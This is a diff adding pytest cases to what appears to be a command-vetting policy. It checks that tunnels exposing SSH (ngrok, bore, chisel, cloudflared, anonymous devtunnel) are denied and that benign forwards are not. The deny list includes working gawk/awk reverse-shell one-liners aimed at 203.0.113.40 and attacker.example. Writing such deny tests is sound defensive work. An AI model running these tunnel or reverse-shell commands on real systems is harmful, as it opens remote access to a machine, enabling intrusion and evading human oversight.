@@ -110,3 +110,30 @@ def test_metadata_reached_by_other_fetchers_denies(world, command):
 @pytest.mark.parametrize("command", ["xmllint --noout build/report.xml", "xmllint --format pom.xml"])
 def test_xml_tools_on_files_allow(world, command):
     assert world.verdict(command) == "allow", command
+
+
+# -- ways in ---------------------------------------------------------------------------------------------
+@pytest.mark.parametrize("command", [
+    "bore local 22 --to bore.pub",
+    "ngrok tcp 22",
+    "cloudflared tunnel --url ssh://localhost:22",
+    "chisel client https://tunnel.partner.example R:2222:localhost:22",
+    "chisel client --auth u:p https://tunnel.partner.example R:0.0.0.0:2222:127.0.0.1:22",
+    "devtunnel host -p 8888 --allow-anonymous",
+    "devtunnel host -a -p 3000",
+    "gawk 'BEGIN{s=\"/inet/tcp/0/203.0.113.40/4444\"; while((s|&getline c)>0){while((c|&getline l)>0) print l |& s; close(c)}}'",
+    "awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.40/4444\"; while((s|&getline c)>0) system(c)}'",
+    "gawk 'BEGIN{s=\"/inet4/tcp/0/attacker.example/443\"; s |& getline c; print c | \"sh\"}'",
+])
+def test_ways_into_this_machine_deny(world, command):
+    assert world.verdict(command) == "deny", command
+
+
+@pytest.mark.parametrize("command", [
+    "chisel client https://tunnel.example.net 3000:localhost:5432",  # a local forward: nothing comes in
+    "devtunnel host -p 8888",  # signed-in users only
+    "gawk '{print $1}' data/readings.csv",
+    "ngrok http 3000",
+])
+def test_tunnels_without_a_way_in_do_not_deny(secrets_here, command):
+    assert secrets_here.verdict(command) != "deny", command
